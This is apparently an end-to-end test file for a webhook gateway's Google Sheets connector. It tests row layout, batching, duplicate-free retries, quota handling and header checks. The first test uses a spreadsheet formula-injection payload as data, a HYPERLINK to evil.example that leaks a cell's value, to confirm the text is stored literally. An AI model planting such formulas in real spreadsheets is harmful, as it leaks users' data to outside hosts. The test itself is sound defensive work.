// The gateway does not depend on the connector package yet: import its build until it is wired in.
import { DEFAULT_COLUMNS, googleSheetsConnector, HEADER } from "@engage-bridge/connector-google-sheets";
import { type FakeGoogle, sampleEvent, sheetsQuotaError, startFakeGoogle } from "@engage-bridge/testkit";
import { afterEach, describe, expect, it } from "vitest";
import { startTestGateway, type TestGateway, waitFor } from "../test-support/harness.ts";

/**
 * End to end: signed Engage webhooks → gateway store → delivery engine → the Google Sheets
 * connector (official SDK) → the testkit's fake Google (token endpoint + Sheets values API).
 */

const cleanups: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  for (const fn of cleanups.splice(0).reverse()) await fn();
});

async function setup(): Promise<{ fake: FakeGoogle; gw: TestGateway; spreadsheetId: string }> {
  const fake = await startFakeGoogle();
  cleanups.push(() => fake.close());
  const settings = fake.connectorConfig({ spreadsheetId: "1LoyaltyLog", sheetName: "Loyalty" });
  const gw = await startTestGateway(
    { connectors: { googleSheets: { enabled: true, ...settings } } },
    { connectors: [googleSheetsConnector] },
  );
  cleanups.push(() => gw.stop());
  return { fake, gw, spreadsheetId: settings.spreadsheetId };
}

const settled = (
  gw: TestGateway,
  count: number,
  status: "delivered" | "dead" = "delivered",
  timeoutMs = 20_000,
) =>
  waitFor(
    async () => ((await gw.store.stats()).deliveries.googleSheets?.[status] ?? 0) >= count,
    timeoutMs,
    `${count} ${status} googleSheets deliveries`,
  );

const idOf = (body: string) => {
  const envelope = JSON.parse(body) as { id?: string; eventId?: string };
  return envelope.id ?? envelope.eventId ?? "";
};

async function postAll(gw: TestGateway, bodies: readonly string[], concurrency = 50): Promise<void> {
  for (let i = 0; i < bodies.length; i += concurrency) {
    const answers = await Promise.all(bodies.slice(i, i + concurrency).map((b) => gw.post(b)));
    expect(answers.every((a) => a.status === 204)).toBe(true);
  }
}

/** Data rows (without the header) and their event ids. */
function dataRows(fake: FakeGoogle, spreadsheetId: string) {
  const rows = fake.rows(spreadsheetId, "Loyalty");
  return { rows, ids: rows.slice(1).map((r) => r[2]) };
}

const dataAppends = (fake: FakeGoogle) =>
  fake.requests.filter((r) => r.operation === "append" && r.status === 200 && (r.rows ?? 0) > 0).length - 1;

describe("googleSheets connector through the gateway", () => {
  it("writes one row per event type under a single header, formula text kept literal", async () => {
    const { fake, gw, spreadsheetId } = await setup();
    const formula = '=HYPERLINK("https://evil.example/?c="&E2,"Claim your reward")';
    const points = sampleEvent("loyalty.addPoints", { payload: { amount: 25, description: formula } });
    const balance = sampleEvent("point.balance.updated", { payload: { balance: 300 } });
    const voucher = sampleEvent("reward.voucher.created", {
      payload: { UniqueCode: formula, Currency: "=1+1" },
    });
    await postAll(gw, [points, balance, voucher]);
    await settled(gw, 3);
    await gw.post(sampleEvent("loyalty.addPoints", { payload: { amount: 5 } }));
    await settled(gw, 4);

    const { rows } = dataRows(fake, spreadsheetId);
    expect(rows).toHaveLength(5);
    expect(rows[0]).toEqual([...HEADER]);
    expect(rows.filter((r) => r[0] === HEADER[0])).toHaveLength(1);
    const byId = new Map(rows.slice(1).map((r) => [r[2], r]));
    const contact = "1c9b35d6-28d8-4520-8900-a89555f7f0c5";
    const blank = (n: number) => Array.from({ length: n }, () => "");
    // The default columns: the first version's thirteen, then description, reason, source, sourceId.
    expect(byId.get(idOf(points))?.slice(2)).toEqual([
      idOf(points),
      "loyalty.addPoints",
      contact,
      25,
      ...blank(7),
      formula,
      "Birthday",
      "Automation",
      "auto-77",
    ]);
    expect(byId.get(idOf(balance))?.slice(2)).toEqual([
      idOf(balance),
      "point.balance.updated",
      contact,
      "",
      300,
      "2027-12-31T23:59:59.999+01:00",
      ...blank(9),
    ]);
    expect(byId.get(idOf(voucher))?.slice(2)).toEqual([
      idOf(voucher),
      "reward.voucher.created",
      contact,
      "",
      "",
      "",
      "f0e1d2c3-b4a5-4968-8776-655443322110",
      formula,
      100,
      "=1+1",
      "2027-02-28T23:59:59+01:00",
      ...blank(4),
    ]);
    // Stored as text: the fake would have kept a { formula } cell for USER_ENTERED.
    expect(rows.flat().some((cell) => typeof cell === "object")).toBe(false);
    for (const row of rows.slice(1)) expect(Number.isNaN(Date.parse(String(row[0])))).toBe(false);
    const writes = fake.requests.filter((r) => r.operation === "append");
    expect(
      writes.every((r) => r.query.valueInputOption === "RAW" && r.query.insertDataOption === "INSERT_ROWS"),
    ).toBe(true);
    expect(gw.engine?.health().googleSheets).toMatchObject({ healthy: true });
  });

  it("lands 1,000 loyalty events as exactly 1,000 rows in at most 50 appends", async () => {
    const { fake, gw, spreadsheetId } = await setup();
    // A real append takes a few hundred ms; events keep arriving meanwhile.
    fake.latencyMs = 200;
    const types = ["loyalty.addPoints", "point.balance.updated", "reward.voucher.created"] as const;
    const bodies = Array.from({ length: 1_000 }, (_, i) => sampleEvent(types[i % 3] ?? "loyalty.addPoints"));
    await postAll(gw, bodies);
    await settled(gw, 1_000, "delivered", 25_000);

    const { ids } = dataRows(fake, spreadsheetId);
    expect(ids).toHaveLength(1_000);
    expect(new Set(ids)).toEqual(new Set(bodies.map(idOf)));
    const appends = dataAppends(fake);
    expect(appends).toBeGreaterThanOrEqual(2);
    expect(appends).toBeLessThanOrEqual(50);
    expect(fake.requests.filter((r) => r.status === 429)).toHaveLength(0);
  }, 40_000);

  it("leaves no duplicate row when an append is applied and its connection dropped", async () => {
    const { fake, gw, spreadsheetId } = await setup();
    await gw.post(sampleEvent("loyalty.addPoints"));
    await settled(gw, 1);
    fake.dropAfterApply(1);
    const bodies = Array.from({ length: 20 }, () => sampleEvent("loyalty.addPoints"));
    await postAll(gw, bodies);
    await settled(gw, 21);

    const { ids } = dataRows(fake, spreadsheetId);
    expect(ids).toHaveLength(21);
    expect(new Set(ids).size).toBe(21);
    const dropped = fake.requests.filter((r) => r.dropped);
    expect(dropped).toHaveLength(1);
    expect(dropped[0]).toMatchObject({ operation: "append", applied: true, status: 0 });
    const deliveries = await gw.store.listDeliveries({ connector: "googleSheets", limit: 0 });
    expect(deliveries.every((d) => d.status === "delivered")).toBe(true);
  });

  it("leaves no duplicate row when the read-back fails too and the engine retries later", async () => {
    const { fake, gw, spreadsheetId } = await setup();
    await gw.post(sampleEvent("loyalty.addPoints"));
    await settled(gw, 1);
    fake.dropAfterApply(1);
    fake.failNext(1, { status: 503 }, "get");
    const bodies = Array.from({ length: 10 }, () => sampleEvent("reward.voucher.created"));
    await postAll(gw, bodies, 10);
    await settled(gw, 11);

    const { ids } = dataRows(fake, spreadsheetId);
    expect(ids).toHaveLength(11);
    expect(new Set(ids).size).toBe(11);
    const deliveries = await gw.store.listDeliveries({ connector: "googleSheets", limit: 0 });
    const retried = deliveries.filter((d) => d.attempts >= 2);
    expect(retried.length).toBeGreaterThan(0);
    expect(deliveries.every((d) => d.status === "delivered")).toBe(true);
  });

  it("lets a 429 burst delay the rows but lose none", async () => {
    const { fake, gw, spreadsheetId } = await setup();
    await gw.post(sampleEvent("loyalty.addPoints"));
    await settled(gw, 1);
    // Google's per-user write quota is used up: the next two appends get 429 RESOURCE_EXHAUSTED.
    fake.failNext(2, { status: 429, body: sheetsQuotaError("Write") }, "append");
    const bodies = Array.from({ length: 12 }, (_, i) =>
      sampleEvent(i % 2 ? "point.balance.updated" : "reward.voucher.created"),
    );
    await postAll(gw, bodies);
    await settled(gw, 13);

    const limited = fake.requests.filter((r) => r.status === 429);
    expect(limited).toHaveLength(2);
    const { ids } = dataRows(fake, spreadsheetId);
    expect(ids).toHaveLength(13);
    expect(new Set(ids).size).toBe(13);
    expect(ids).toEqual(expect.arrayContaining(bodies.map(idOf)));
    const deliveries = await gw.store.listDeliveries({ connector: "googleSheets", limit: 0 });
    expect(deliveries.every((d) => d.status === "delivered" && d.lastError === null)).toBe(true);
    // Throttled calls are retried but do not use up maxAttempts.
    expect(Math.max(...deliveries.map((d) => d.attempts))).toBe(1);
    // The rows came after the refusals (each retry first read the sheet back).
    const lastLimited = Math.max(...limited.map((r) => r.answeredAt));
    const accepted = fake.requests.filter(
      (r) => r.operation === "append" && r.status === 200 && r.at > lastLimited,
    );
    expect(accepted.length).toBeGreaterThanOrEqual(1);
  });

  it("marks deliveries dead with a clear reason and the connector unhealthy when the spreadsheet is gone", async () => {
    const { fake, gw, spreadsheetId } = await setup();
    fake.deleteSpreadsheet(spreadsheetId);
    await gw.post(sampleEvent("loyalty.addPoints"));
    await settled(gw, 1, "dead");
    const [row] = await gw.store.listDeliveries({ connector: "googleSheets", limit: 0 });
    expect(row).toMatchObject({ status: "dead", attempts: 1 });
    expect(row?.lastError).toBe(
      "spreadsheet not found (404 NOT_FOUND): check spreadsheetId and that the spreadsheet is shared with the service account",
    );
    expect(gw.engine?.health().googleSheets).toMatchObject({ healthy: false, reason: row?.lastError });
  });

  it("marks deliveries dead and the connector unhealthy when Google refuses the credentials", async () => {
    const { fake, gw } = await setup();
    const account = fake.requests.find((r) => r.operation === "token")?.account ?? "";
    fake.removeServiceAccount(account);
    fake.revokeTokens();
    await gw.post(sampleEvent("reward.voucher.created"));
    await settled(gw, 1, "dead");
    const [row] = await gw.store.listDeliveries({ connector: "googleSheets", limit: 0 });
    expect(row?.lastError).toMatch(
      /^Google refused the service-account credentials at tokenUrl \(400 invalid_grant/,
    );
    expect(row?.lastError).not.toContain("@");
    expect(gw.engine?.health().googleSheets).toMatchObject({ healthy: false });
    expect(gw.logs.join("\n")).not.toContain(account);
    // 401 from the API first, then one fresh token exchange that Google refused.
    expect(fake.requests.filter((r) => r.status === 401).length).toBeGreaterThanOrEqual(1);
  });

  it("writes exactly the configured columns, under the configured labels", async () => {
    const fake = await startFakeGoogle();
    cleanups.push(() => fake.close());
    const settings = fake.connectorConfig({ spreadsheetId: "1Columns", sheetName: "Loyalty" });
    const columns = [
      { column: "eventId", label: "Händelse-id" },
      "type",
      { column: "amount", label: "Poäng" },
      "description",
      "tenant",
      "source",
    ];
    const gw = await startTestGateway(
      { connectors: { googleSheets: { enabled: true, ...settings, columns } } },
      { connectors: [googleSheetsConnector] },
    );
    cleanups.push(() => gw.stop());
    const points = sampleEvent("loyalty.addPoints", { payload: { amount: 25, description: "=1+1" } });
    const balance = sampleEvent("point.balance.updated");
    await postAll(gw, [points, balance]);
    await settled(gw, 2);

    const rows = fake.rows(settings.spreadsheetId, "Loyalty");
    expect(rows[0]).toEqual(["Händelse-id", "Event type", "Poäng", "Description", "Tenant", "Source"]);
    expect(rows.slice(1).sort((a, b) => String(a[1]).localeCompare(String(b[1])))).toEqual([
      [idOf(points), "loyalty.addPoints", 25, "=1+1", "acme", "Automation"],
      [idOf(balance), "point.balance.updated", "", "", "acme", ""],
    ]);
  });

  it("refuses to start when row 1 is not the configured header, unless new columns may be appended", async () => {
    const fake = await startFakeGoogle();
    cleanups.push(() => fake.close());
    const settings = fake.connectorConfig({ spreadsheetId: "1Mismatch", sheetName: "Loyalty" });
    const start = (extra: Record<string, unknown> = {}) =>
      startTestGateway(
        { connectors: { googleSheets: { enabled: true, ...settings, ...extra } } },
        { connectors: [googleSheetsConnector] },
      );
    const old = ["2026-11-01T08:00:00.000Z", "", "old-1", "loyalty.addPoints", "c-1", 10];
    fake.setRows(settings.spreadsheetId, "Loyalty", [["Received at", "Event time", "Event ID", "Type"], old]);
    await expect(start()).rejects.toThrow(
      'connector googleSheets failed its start-up check: row 1 of sheet "Loyalty" does not match the configured columns: row 1 is ["Received at", "Event time", "Event ID", "Type"], the configured header is ["Received at", "Event time", "Event ID", "Event type", "Contact ID", "Points added", "Balance", "Balance expires", "Voucher ID", "Voucher code", "Voucher amount", "Voucher currency", "Voucher valid to", "Description", "Reason", "Source", "Source ID"]. First difference: column D.',
    );
    await expect(start({ onHeaderMismatch: "append-new-columns" })).rejects.toThrow(
      /First difference: column D/,
    );
    const writes = () => fake.requests.filter((r) => r.operation === "append" || r.operation === "update");
    expect(writes()).toEqual([]);

    // The first version's header: without columns configured, an upgrade keeps writing its 13
    // columns; explicit columns that only add trailing ones are refused unless append-new-columns.
    const firstVersion = HEADER.slice(0, 13);
    fake.setRows(settings.spreadsheetId, "Loyalty", [[...firstVersion], old]);
    const unchanged = await start();
    const before = sampleEvent("loyalty.addPoints");
    await unchanged.post(before);
    await settled(unchanged, 1);
    await unchanged.stop();
    const legacyRows = fake.rows(settings.spreadsheetId, "Loyalty");
    expect(legacyRows[0]).toEqual([...firstVersion]);
    expect(legacyRows[2]?.[2]).toBe(idOf(before));
    expect(legacyRows[2]).toHaveLength(13);
    fake.setRows(settings.spreadsheetId, "Loyalty", [[...firstVersion], old]);
    await expect(
      start({ columns: [...firstVersion.map((_, i) => DEFAULT_COLUMNS[i]), "tenant"] }),
    ).rejects.toThrow(/set onHeaderMismatch: append-new-columns to add them to row 1/);
    const earlierWrites = writes().length;
    const gw = await start({ onHeaderMismatch: "append-new-columns" });
    cleanups.push(() => gw.stop());
    const points = sampleEvent("loyalty.addPoints");
    await gw.post(points);
    await settled(gw, 1);
    const rows = fake.rows(settings.spreadsheetId, "Loyalty");
    expect(rows[0]).toEqual([...HEADER]);
    expect(rows[1]).toEqual(old);
    expect(rows[2]?.[2]).toBe(idOf(points));
    expect(rows[2]?.slice(13)).toEqual(["Birthday bonus", "Birthday", "Automation", "auto-77"]);
    expect(
      writes()
        .slice(earlierWrites)
        .map((r) => r.operation),
    ).toEqual(["update", "append"]);
  });
});
